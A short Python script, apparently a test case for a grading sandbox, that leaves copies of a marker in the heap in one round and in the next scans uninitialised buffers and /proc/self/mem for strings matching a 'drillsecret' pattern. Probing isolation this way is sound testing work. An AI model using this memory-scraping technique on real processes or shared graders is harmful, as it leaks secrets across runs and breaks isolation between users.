# Leaves many copies in the heap in one grading and scans memory in the next.
# proof: secret
# rounds: 2
# control: none, because freed memory holds what it holds
import ctypes
import re

KEPT = []


def attack(arg):
    if arg["round"] == 1:
        KEPT.extend(arg["note"] + str(i) for i in range(10_000))
        return None
    found = set()
    for _ in range(100):
        block = ctypes.create_string_buffer(1 << 12)
        found.update(re.findall(rb"drillsecret[0-9a-f]{16}", ctypes.string_at(ctypes.addressof(block), 1 << 12)))
    try:
        with open("/proc/self/mem", "rb", 0) as memory:
            for line in open("/proc/self/maps"):
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line:
                    memory.seek(start)
                    found.update(re.findall(rb"drillsecret[0-9a-f]{16}", memory.read(end - start)))
    except OSError:
        found.discard(b"")
    return sorted(found)
